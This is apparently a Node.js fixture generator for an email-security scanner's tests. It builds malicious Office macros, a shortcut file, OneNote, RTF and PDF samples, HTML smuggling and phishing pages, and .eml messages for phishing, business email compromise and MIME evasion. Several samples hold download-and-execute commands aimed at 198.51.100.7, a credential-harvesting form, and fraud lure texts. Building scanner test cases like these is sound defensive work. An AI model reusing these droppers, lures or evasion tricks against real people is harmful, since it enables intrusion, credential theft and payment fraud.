#!/usr/bin/env node
// Part of make-threat-fixtures.sh. `node make-threat-fixtures.mjs WORK OUT` writes the files that no
// tool here produces, built from their documented formats (say so in reports): VBA projects in OLE
// (MS-CFB via the cfb package, MS-OVBA compression), a Windows shortcut (MS-SHLLINK), a OneNote
// header, an RTF with an Equation Editor OLE object, PDFs with actions, HTML pages.
// `node make-threat-fixtures.mjs --eml FILES EMLDIR` composes the golden .eml messages.
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import CFB from 'cfb';

// ---------- MS-OVBA 2.4.1 compression (real LZ77 copy tokens, chunk by chunk) ----------
function ovbaCompress(data) {
  const out = [1];
  for (let cs = 0; cs < data.length || cs === 0; cs += 4096) {
    const chunk = data.subarray(cs, Math.min(cs + 4096, data.length));
    const body = [];
    let pos = 0;
    while (pos < chunk.length) {
      const flagAt = body.length;
      body.push(0);
      let flags = 0;
      for (let bit = 0; bit < 8 && pos < chunk.length; bit++) {
        let bitCount = 4;
        while (1 << bitCount < pos) bitCount++;
        const maxLen = (0xffff >> bitCount) + 3;
        const maxOff = 1 << bitCount;
        let bestLen = 0, bestOff = 0;
        for (let cand = pos - 1; cand >= 0 && pos - cand <= maxOff; cand--) {
          let l = 0;
          while (l < maxLen && pos + l < chunk.length && chunk[cand + l] === chunk[pos + l]) l++;
          if (l > bestLen) { bestLen = l; bestOff = pos - cand; }
        }
        if (bestLen >= 3) {
          const token = ((bestOff - 1) << (16 - bitCount)) | (bestLen - 3);
          body.push(token & 0xff, token >> 8);
          flags |= 1 << bit;
          pos += bestLen;
        } else body.push(chunk[pos++]);
      }
      body[flagAt] = flags;
    }
    const header = 0x8000 | 0x3000 | ((body.length + 2 - 3) & 0x0fff);
    out.push(header & 0xff, header >> 8, ...body);
    if (data.length === 0) break;
  }
  return Buffer.from(out);
}

function rec(id, body) {
  const b = Buffer.alloc(6);
  b.writeUInt16LE(id, 0);
  b.writeUInt32LE(body.length, 2);
  return Buffer.concat([b, body]);
}
const u16 = (n) => { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b; };
const u32 = (n) => { const b = Buffer.alloc(4); b.writeUInt32LE(n); return b; };

/** A VBA project (MS-OVBA 2.3.4.2 dir stream + module streams with offset-0 compressed source). */
function vbaProject(modules) {
  const parts = [
    rec(0x0001, u32(1)), rec(0x0002, u32(0x409)), rec(0x0014, u32(0x409)), rec(0x0003, u16(1252)),
    rec(0x0004, Buffer.from('VBAProject')), rec(0x0005, Buffer.alloc(0)), rec(0x0040, Buffer.alloc(0)), rec(0x0006, u32(0)), rec(0x003d, Buffer.alloc(0)),
    rec(0x0007, u32(0)), rec(0x0008, u32(0)),
    Buffer.concat([u16(0x0009), u32(4), u32(0x65be0257), u16(0x0011)]),
    rec(0x000c, Buffer.alloc(0)), rec(0x003c, Buffer.alloc(0)),
    rec(0x000f, u16(modules.length)), rec(0x0013, u16(0xffff)),
  ];
  for (const m of modules) {
    parts.push(rec(0x0019, Buffer.from(m.name)), rec(0x0047, Buffer.from(m.name, 'utf16le')), rec(0x001a, Buffer.from(m.name)), rec(0x0032, Buffer.from(m.name, 'utf16le')),
      rec(0x001c, Buffer.alloc(0)), rec(0x0048, Buffer.alloc(0)), rec(0x0031, u32(0)), rec(0x001e, u32(0)), rec(0x002c, u16(0xffff)), rec(0x0021, Buffer.alloc(0)), rec(0x002b, Buffer.alloc(0)));
  }
  parts.push(rec(0x0010, Buffer.alloc(0)));
  return { dir: ovbaCompress(Buffer.concat(parts)), modules: modules.map((m) => ({ name: m.name, stream: ovbaCompress(Buffer.from(`Attribute VB_Name = "${m.name}"\r\n${m.source}`, 'latin1')) })) };
}

function oleWithVba(prefix, modules, extra = {}) {
  const cfb = CFB.utils.cfb_new();
  const p = vbaProject(modules);
  CFB.utils.cfb_add(cfb, `${prefix}VBA/dir`, p.dir);
  CFB.utils.cfb_add(cfb, `${prefix}VBA/_VBA_PROJECT`, Buffer.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]));
  for (const m of p.modules) CFB.utils.cfb_add(cfb, `${prefix}VBA/${m.name}`, m.stream);
  CFB.utils.cfb_add(cfb, `${prefix}PROJECT`, Buffer.from(`ID="{00000000-0000-0000-0000-000000000000}"\r\n${modules.map((m) => `Document=${m.name}/&H00000000`).join('\r\n')}\r\nName="VBAProject"\r\n`));
  for (const [k, v] of Object.entries(extra)) CFB.utils.cfb_add(cfb, k, v);
  CFB.utils.cfb_del(cfb, '/\u0001Sh33tJ5');
  return Buffer.from(CFB.write(cfb, { type: 'buffer' }));
}

const AUTOOPEN = 'Sub AutoOpen()\r\n  Dim u As String\r\n  u = "http://198.51.100.7/inv.exe"\r\n  URLDownloadToFile 0, u, Environ("TEMP") & "\\\\i.exe", 0, 0\r\n  Shell Environ("TEMP") & "\\\\i.exe", vbHide\r\nEnd Sub\r\n';
const WBOPEN = 'Private Sub Workbook_Open()\r\n  Set sh = CreateObject("WScript.Shell")\r\n  sh.Run "powershell -enc SQBFAFgA", 0\r\nEnd Sub\r\n';

function lnk() {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(header, 4);
  header.writeUInt32LE(0x04 | 0x08 | 0x20 | 0x80, 20); // HasName | HasRelativePath | HasArguments | IsUnicode
  header.writeUInt32LE(0x20, 24);
  header.writeUInt32LE(7, 60); // SW_SHOWMINNOACTIVE
  const str = (s) => Buffer.concat([u16(s.length), Buffer.from(s, 'utf16le')]);
  return Buffer.concat([header, str('Invoice'), str('..\\..\\..\\Windows\\System32\\cmd.exe'), str('/c start /min powershell -w hidden -c "iwr http://198.51.100.7/p.ps1|iex"'), u32(0)]);
}

function onenote() {
  // Revision-store header (MS-ONESTORE 2.3.1): guidFileType of a .one section, then a file data
  // store object (GUID {BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC}) carrying an HTA. Not a complete
  // section OneNote would open: enough for type detection and a scanner.
  const h = Buffer.alloc(1024);
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(h, 0);
  Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex').copy(h, 16);
  const fdso = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex');
  const hta = Buffer.from('<html><script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c curl http://198.51.100.7/x -o %TEMP%\\x.exe"</script></html>');
  return Buffer.concat([h, fdso, u32(hta.length), u32(0), hta]);
}

function rtfEquation() {
  const cfb = CFB.utils.cfb_new();
  CFB.utils.cfb_add(cfb, '/\u0001Ole10Native', Buffer.concat([u32(16), Buffer.alloc(16, 0x41)]));
  CFB.utils.cfb_add(cfb, '/Equation Native', Buffer.concat([Buffer.from('1c000000020098b3', 'hex'), Buffer.alloc(40, 0x41)]));
  CFB.utils.cfb_del(cfb, '/\u0001Sh33tJ5');
  const ole = Buffer.from(CFB.write(cfb, { type: 'buffer' }));
  // OLE1 ObjectHeader (MS-OLEDS 2.2.4): version, FormatID=2 (embedded), class name, topic, item, native data.
  const cls = Buffer.from('Equation.3\0');
  const ole1 = Buffer.concat([u32(0x0501), u32(2), u32(cls.length), cls, u32(0), u32(0), u32(ole.length), ole]);
  const hex = ole1.toString('hex').replace(/(.{128})/g, '$1\n');
  return `{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\pard Please see the attached quotation.\\par\n{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}\\objw380\\objh260{\\*\\objdata ${hex}\n}{\\result {\\pict\\wmetafile8 0100}}}\\par}\n`;
}

function pdf(objects) {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets = [];
  objects.forEach((o, i) => { offsets.push(Buffer.byteLength(out, 'latin1')); out += `${i + 1} 0 obj\n${o}\nendobj\n`; });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((x) => `${String(x).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
const PAGE = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'];

function smuggling() {
  const payload = randomBytes(6000).toString('base64');
  return `<!DOCTYPE html><html><head><title>Secure Document</title></head><body><p>Loading your document…</p>
<script>
var d = "${payload}";
var b = atob(d); var a = new Uint8Array(b.length); for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);
var blob = new Blob([a], {type: 'application/octet-stream'});
var l = document.createElement('a'); l.href = window.URL.createObjectURL(blob); l.download = 'Invoice_0412.iso';
document.body.appendChild(l); l.click();
</script></body></html>`;
}

function phishPage() {
  return `<!DOCTYPE html><html><head><title>Microsoft 365 - Sign in</title></head><body>
<h2>Sign in to view the shared document</h2>
<form method="POST" action="https://collect.login-verify-portal.top/o365.php">
<input type="email" name="login" placeholder="Email"><input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button></form></body></html>`;
}

function makeFiles(work, out) {
  writeFileSync(path.join(out, 'macro-autoopen.doc'), oleWithVba('/Macros/', [{ name: 'ThisDocument', source: AUTOOPEN }], { '/WordDocument': Buffer.alloc(512), '/1Table': Buffer.alloc(512) }));
  writeFileSync(path.join(out, 'vbaProject.bin'), oleWithVba('/', [{ name: 'ThisWorkbook', source: WBOPEN }]));
  // An .xlsm: LibreOffice's xlsx with the VBA project added (LibreOffice cannot write VBA itself).
  const dir = mkdtempSync(path.join(os.tmpdir(), 'xlsm-'));
  execFileSync('unzip', ['-q', path.join(out, 'budget.xlsx'), '-d', dir]);
  execFileSync('mkdir', ['-p', path.join(dir, 'xl')]);
  writeFileSync(path.join(dir, 'xl', 'vbaProject.bin'), readFileSync(path.join(out, 'vbaProject.bin')));
  const ct = path.join(dir, '[Content_Types].xml');
  writeFileSync(ct, readFileSync(ct, 'utf8').replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>').replace('spreadsheetml.sheet.main+xml', 'sheet.macroEnabled.main+xml'));
  execFileSync('zip', ['-q', '-r', path.join(path.resolve(out), 'budget-macro.xlsm'), '.'], { cwd: dir });
  rmSync(dir, { recursive: true, force: true });
  rmSync(path.join(out, 'vbaProject.bin'));
  writeFileSync(path.join(out, 'shortcut.lnk'), lnk());
  writeFileSync(path.join(out, 'notes.one'), onenote());
  writeFileSync(path.join(out, 'quotation.rtf'), rtfEquation());
  writeFileSync(path.join(out, 'js-openaction.pdf'), pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGE, "<< /Type /Action /S /J#61vaScript /JS (this.exportDataObject\\({cName: 'a', nLaunch: 2}\\);) >>"]));
  writeFileSync(path.join(out, 'launch.pdf'), pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGE, '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>']));
  writeFileSync(path.join(out, 'smuggle.html'), smuggling());
  writeFileSync(path.join(out, 'signin.html'), phishPage());
  // A password-protected OOXML file: OLE with EncryptionInfo + EncryptedPackage (MS-OFFCRYPTO 2.3.4.10
  // agile header; the package bytes are random, as no password from the message will open them anyway).
  const enc = CFB.utils.cfb_new();
  CFB.utils.cfb_add(enc, '/EncryptionInfo', Buffer.concat([u16(4), u16(4), u32(0x40), Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>')]));
  CFB.utils.cfb_add(enc, '/EncryptedPackage', Buffer.concat([u32(4096), u32(0), randomBytes(4096)]));
  CFB.utils.cfb_del(enc, '/\u0001Sh33tJ5');
  writeFileSync(path.join(out, 'protected.docx'), Buffer.from(CFB.write(enc, { type: 'buffer' })));
  writeFileSync(path.join(out, 'known-bad.bin'), Buffer.concat([Buffer.from('rampart known-bad fixture\n'), randomBytes(256)]));
}

// ---------- .eml composition ----------
const CRLF = '\r\n';
function b64(buf) { return buf.toString('base64').replace(/(.{76})/g, `$1${CRLF}`); }
function mail({ from, to = 'staff@example.edu', subject, text, html, attachments = [], headers = [], replyTo, date = 'Thu, 21 Nov 2024 09:12:00 +0000' }) {
  const b = `=_rampart_${randomBytes(6).toString('hex')}`;
  const h = [`From: ${from}`, `To: ${to}`, `Subject: ${subject}`, `Date: ${date}`, `Message-ID: <${randomBytes(8).toString('hex')}@fixtures.invalid>`, 'MIME-Version: 1.0', ...(replyTo ? [`Reply-To: ${replyTo}`] : []), ...headers];
  const parts = [];
  if (text !== undefined) parts.push(`Content-Type: text/plain; charset=utf-8${CRLF}Content-Transfer-Encoding: 8bit${CRLF}${CRLF}${text}`);
  if (html !== undefined) parts.push(`Content-Type: text/html; charset=utf-8${CRLF}Content-Transfer-Encoding: 8bit${CRLF}${CRLF}${html}`);
  for (const a of attachments) {
    const enc = /[^\x20-\x7e]/.test(a.name) ? `=?utf-8?B?${Buffer.from(a.name).toString('base64')}?=` : a.name;
    parts.push(`Content-Type: ${a.type}; name="${enc}"${CRLF}Content-Disposition: attachment; filename="${enc}"${CRLF}Content-Transfer-Encoding: base64${CRLF}${CRLF}${b64(a.content)}`);
  }
  return [...h, `Content-Type: multipart/mixed; boundary="${b}"`, '', ...parts.map((p) => `--${b}${CRLF}${p}`), `--${b}--`, ''].join(CRLF);
}

function makeEmls(files, out) {
  const f = (n) => readFileSync(path.join(files, n));
  const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
  const clam = readFileSync('/usr/share/clamav-testfiles/clam.exe');
  const ext = 'Accounts <accounts@northwind-supplies.com>';
  const m = {
    // malware
    'malware-eicar.eml': mail({ from: ext, subject: 'Document', text: 'See attached.', attachments: [{ name: 'readme.txt', type: 'text/plain', content: EICAR }] }),
    'malware-clam-zip.eml': mail({ from: ext, subject: 'Files', text: 'Archive attached.', attachments: [{ name: 'files.zip', type: 'application/zip', content: f('clam.zip') }] }),
    'malware-exe-as-jpg.eml': mail({ from: ext, subject: 'Photo', text: 'Photo from the event.', attachments: [{ name: 'photo.jpg', type: 'image/jpeg', content: clam }] }),
    'malware-nested-double-ext.eml': mail({ from: ext, subject: 'Invoice', text: 'Invoice attached.', attachments: [{ name: 'invoice.zip', type: 'application/zip', content: f('nested.zip') }] }),
    'malware-zip-bomb.eml': mail({ from: ext, subject: 'Backup', text: 'Backup attached.', attachments: [{ name: 'backup.zip', type: 'application/zip', content: f('bomb.zip') }] }),
    'malware-gzip-bomb.eml': mail({ from: ext, subject: 'Log', text: 'Log attached.', attachments: [{ name: 'server.log.gz', type: 'application/gzip', content: f('bomb.gz') }] }),
    'malware-encrypted-zip-password.eml': mail({ from: ext, subject: 'Secure invoice', text: 'Your invoice is attached as a protected archive.\nPassword: Inv-2291\n', attachments: [{ name: 'invoice.zip', type: 'application/zip', content: f('enc-eicar.zip') }] }),
    'malware-encrypted-7z-quoted.eml': mail({ from: ext, subject: 'Statement', text: 'Open the archive with "Blue7Harbor" to see your statement.', attachments: [{ name: 'statement.7z', type: 'application/x-7z-compressed', content: f('enc-clam.7z') }] }),
    'malware-known-hash.eml': mail({ from: ext, subject: 'Data', text: 'Data file.', attachments: [{ name: 'data.bin', type: 'application/octet-stream', content: f('known-bad.bin') }] }),
    // apt
    'apt-macro-doc.eml': mail({ from: ext, subject: 'Order confirmation', text: 'Please enable editing to view the order.', attachments: [{ name: 'order.doc', type: 'application/msword', content: f('macro-autoopen.doc') }] }),
    'apt-macro-xlsm.eml': mail({ from: ext, subject: 'Budget', text: 'Budget sheet attached.', attachments: [{ name: 'budget.xlsm', type: 'application/vnd.ms-excel.sheet.macroEnabled.12', content: f('budget-macro.xlsm') }] }),
    'apt-macro-libreoffice.eml': mail({ from: ext, subject: 'Budget (LibreOffice)', text: 'Sheet attached.', attachments: [{ name: 'budget.ods', type: 'application/vnd.oasis.opendocument.spreadsheet', content: f('macro-libreoffice.ods') }] }),
    'apt-rtf-equation.eml': mail({ from: ext, subject: 'Quotation', text: 'Quotation attached.', attachments: [{ name: 'quotation.rtf', type: 'application/rtf', content: f('quotation.rtf') }] }),
    'apt-pdf-javascript.eml': mail({ from: ext, subject: 'Scan', text: 'Scanned document.', attachments: [{ name: 'scan.pdf', type: 'application/pdf', content: f('js-openaction.pdf') }] }),
    'apt-pdf-launch.eml': mail({ from: ext, subject: 'Form', text: 'Form attached.', attachments: [{ name: 'form.pdf', type: 'application/pdf', content: f('launch.pdf') }] }),
    'apt-html-smuggling.eml': mail({ from: ext, subject: 'Secure message', text: 'Open the attached secure message.', attachments: [{ name: 'message.html', type: 'text/html', content: f('smuggle.html') }] }),
    'apt-lnk.eml': mail({ from: ext, subject: 'Invoice', text: 'Invoice shortcut attached.', attachments: [{ name: 'Invoice.zip', type: 'application/zip', content: zipOf({ 'Invoice.lnk': f('shortcut.lnk') }) }] }),
    'apt-iso.eml': mail({ from: ext, subject: 'Delivery note', text: 'Delivery note attached.', attachments: [{ name: 'delivery.iso', type: 'application/octet-stream', content: f('invoice.iso') }] }),
    'apt-onenote.eml': mail({ from: ext, subject: 'Meeting notes', text: 'Notes attached.', attachments: [{ name: 'notes.one', type: 'application/octet-stream', content: f('notes.one') }] }),
    'apt-encrypted-exe.eml': mail({ from: ext, subject: 'Payment advice', text: 'Payment advice attached (protected).', attachments: [{ name: 'advice.zip', type: 'application/zip', content: f('enc-exe.zip') }] }),
    // phishing
    'phishing-lookalike-brand.eml': mail({ from: '"Microsoft 365" <no-reply@micros0ft-support.com>', subject: 'Unusual sign-in activity', html: '<p>We detected unusual sign-in activity. Verify your account within 24 hours or it will be suspended.</p><p><a href="https://login.rnicrosoft.com/verify">Verify now</a></p>' }),
    'phishing-link-mismatch.eml': mail({ from: 'Billing <billing@notify-center.net>', subject: 'Receipt', html: '<p>Your receipt is ready.</p><p><a href="http://203.0.113.50/pp/receipt">https://www.paypal.com/myaccount/receipt</a></p>' }),
    'phishing-html-form.eml': mail({ from: 'Docs <share@files-share.net>', subject: 'Shared document', text: 'A document was shared with you, see attachment.', attachments: [{ name: 'Shared_Document.html', type: 'text/html', content: f('signin.html') }] }),
    'phishing-punycode.eml': mail({ from: 'Service <service@mailer-notice.com>', subject: 'Account limited', html: `<p>Your account access is limited. Confirm your identity today.</p><a href="https://${new URL('https://p\u0430ypal.com').host}/signin">Restore access</a>` }),
    'phishing-own-domain-lookalike.eml': mail({ from: 'Helpdesk <helpdesk@mail-notify.net>', subject: 'Password expiry', html: '<p>Your password expires today. Log in to keep your current password.</p><a href="https://webmail.exarnple.edu/owa">https://webmail.example.edu/owa</a>' }),
    'phishing-service-desk.eml': mail({ from: '"Example IT Service Desk" <it-support@quota-upgrade.net>', subject: 'Mailbox full', text: 'Your mailbox is full. Verify your account immediately to avoid suspension: https://bit.ly/3mbx-upgrade\n' }),
    'phishing-data-url.eml': mail({ from: 'Fax <fax@efax-delivery.net>', subject: 'New fax', html: '<p>You have a new fax.</p><a href="data:text/html;base64,PGgxPkxvZ2luPC9oMT4=">Open fax</a>' }),
    // bec
    'bec-vip-wire.eml': mail({ from: '"Jane Provost" <jane.provost.office@gmail.com>', to: 'finance@example.edu', subject: 'Request', text: 'Are you at your desk? I need you to process a wire transfer today for a confidential acquisition. Reply with the bank details when done.\n\nJane' }),
    'bec-replyto-bank-change.eml': mail({ from: 'Accounts Receivable <ar@northwind-supplies.com>', replyTo: 'northwind.ar@outlook.com', to: 'payables@example.edu', subject: 'Updated bank details', text: 'Please note our new bank details for all future payments. Kindly update your records urgently before the next invoice payment run.\n' }),
    'bec-lookalike-sender.eml': mail({ from: 'Finance Office <finance@examp1e.edu>', to: 'payables@example.edu', subject: 'Outstanding invoice', text: 'Please process the outstanding invoice payment today, the supplier is waiting. Thanks.\n' }),
    'bec-gift-cards.eml': mail({ from: '"Jane Provost" <president.jprovost@yahoo.com>', to: 'assistant@example.edu', subject: 'Quick favor', text: 'I need a quick favor. Buy 5 Google Play gift cards for a staff surprise, scratch off the codes and send me pictures asap. I am in a meeting.\n' }),
    // other threats
    'other-rtlo-name.eml': mail({ from: ext, subject: 'Report', text: 'Report attached.', attachments: [{ name: 'report_\u202Efdp.js', type: 'application/octet-stream', content: Buffer.from('WScript.Echo("hello");\n') }] }),
    'other-type-mismatch.eml': mail({ from: ext, subject: 'Scan', text: 'Scan attached.', attachments: [{ name: 'scan.png', type: 'image/png', content: f('invoice.pdf') }] }),
    'other-dangerous-type.eml': mail({ from: ext, subject: 'Tool', text: 'Setup script.', attachments: [{ name: 'setup.vbs', type: 'text/plain', content: Buffer.from('MsgBox "hello"\n') }] }),
    'other-encrypted-archive.eml': mail({ from: ext, subject: 'Statement', text: 'Statement attached. The password will follow by phone.', attachments: [{ name: 'statement.zip', type: 'application/zip', content: f('enc-pdf.zip') }] }),
    'other-encrypted-document.eml': mail({ from: ext, subject: 'Contract', text: 'The contract is attached; the password follows separately.', attachments: [{ name: 'contract.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', content: f('protected.docx') }] }),
    'other-long-encoded-header.eml': mail({ from: ext, subject: Array.from({ length: 60 }, () => `=?utf-8?B?${Buffer.from('Important notice about your account ').toString('base64')}?=`).join(' '), text: 'Hello.' }),
    // negatives
    'clean-invoice.eml': mail({ from: ext, to: 'payables@example.edu', subject: 'Invoice 2024-1187', text: 'Dear customer,\n\nplease find attached invoice 2024-1187 for lab consumables. Payment is due within 30 days.\n\nKind regards,\nNorthwind Supplies accounts team\n', attachments: [{ name: 'invoice-2024-1187.pdf', type: 'application/pdf', content: f('invoice.pdf') }] }),
    'clean-newsletter.eml': mail({ from: 'University News <news@lists.example.org>', subject: 'This week on campus', headers: ['List-Unsubscribe: <https://lists.example.org/unsub?u=1>', 'Precedence: bulk'], html: `<h1>This week</h1>${Array.from({ length: 30 }, (_, i) => `<p><a href="https://news.example.org/story/${i}">Story ${i}: research highlights</a> · <a href="https://www.example.org/events/${i}">www.example.org/events</a></p>`).join('')}<p><a href="https://lists.example.org/unsub?u=1">Unsubscribe</a></p>` }),
    'clean-internal-attachments.eml': mail({ from: 'Maria Lopez <maria.lopez@example.edu>', to: 'team@example.edu', subject: 'Minutes and budget', text: 'Hi all, the minutes and the budget sheet are attached, and the archive has the agenda.\nMaria\n', attachments: [{ name: 'report.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', content: f('report.docx') }, { name: 'budget.xlsx', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', content: f('budget.xlsx') }, { name: 'docs.zip', type: 'application/zip', content: f('docs.zip') }] }),
    'clean-vip-real.eml': mail({ from: '"Jane Provost" <jane.provost@example.edu>', to: 'finance@example.edu', subject: 'Budget review', text: 'Can we go over the budget today? The wire transfer for the conference is done.\nJane\n' }),
    'clean-paypal-real.eml': mail({ from: 'PayPal <service@paypal.com>', subject: 'Your receipt', html: '<p>Thanks for your payment.</p><a href="https://www.paypal.com/myaccount/transactions">https://www.paypal.com/myaccount</a>' }),
  };
  // Evasive MIME carrying EICAR, written by hand.
  const e64 = EICAR.toString('base64');
  const H = (subject, ct) => `From: ${ext}\r\nTo: staff@example.edu\r\nSubject: ${subject}\r\nDate: Thu, 21 Nov 2024 09:12:00 +0000\r\nMessage-ID: <${randomBytes(6).toString('hex')}@fixtures.invalid>\r\nMIME-Version: 1.0\r\n${ct}\r\n\r\n`;
  m['evasion-missing-closing-boundary.eml'] = H('Doc', 'Content-Type: multipart/mixed; boundary="b1"') + `--b1\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--b1\r\nContent-Type: application/octet-stream; name="doc.com"\r\nContent-Transfer-Encoding: base64\r\n\r\n${e64}\r\n`;
  m['evasion-boundary-mismatch.eml'] = H('Doc', 'Content-Type: multipart/mixed; boundary="declared-boundary"') + `--other-boundary\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--other-boundary\r\nContent-Type: application/octet-stream; name="doc.com"\r\nContent-Disposition: attachment; filename="doc.com"\r\nContent-Transfer-Encoding: base64\r\n\r\n${e64.slice(0, 40)}\r\n${e64.slice(40)}\r\n--other-boundary--\r\n`;
  m['evasion-base64-garbage.eml'] = H('Doc', 'Content-Type: multipart/mixed; boundary="b2"') + `--b2\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--b2\r\nContent-Type: application/octet-stream; name="doc.com"\r\nContent-Disposition: attachment; filename="doc.com"\r\nContent-Transfer-Encoding: base64\r\n\r\n${e64.slice(0, 20)}!!**${e64.slice(20, 50)}\r\n~~${e64.slice(50)}\r\n--b2--\r\n`;
  m['evasion-double-content-type.eml'] = H('Doc', 'Content-Type: multipart/mixed; boundary="b3"') + `--b3\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--b3\r\nContent-Type: text/plain\r\nContent-Type: application/octet-stream; name="doc.com"\r\nContent-Disposition: attachment; filename="doc.com"\r\nContent-Transfer-Encoding: base64\r\n\r\n${e64}\r\n--b3--\r\n`;
  const uu = execFileSync('uuencode', ['doc.com'], { input: EICAR }).toString().replace(/\n/g, '\r\n');
  m['evasion-uuencode.eml'] = H('Doc', 'Content-Type: text/plain; charset=us-ascii') + `See below.\r\n\r\n${uu}`;
  for (const [name, body] of Object.entries(m)) writeFileSync(path.join(out, name), body);
}

function zipOf(entries) {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'zipof-'));
  for (const [n, c] of Object.entries(entries)) writeFileSync(path.join(dir, n), c);
  execFileSync('zip', ['-q', '-X', 'out.zip', ...Object.keys(entries)], { cwd: dir });
  const b = readFileSync(path.join(dir, 'out.zip'));
  rmSync(dir, { recursive: true, force: true });
  return b;
}

if (process.argv[2] === '--eml') makeEmls(process.argv[3], process.argv[4]);
else makeFiles(process.argv[2], process.argv[3]);
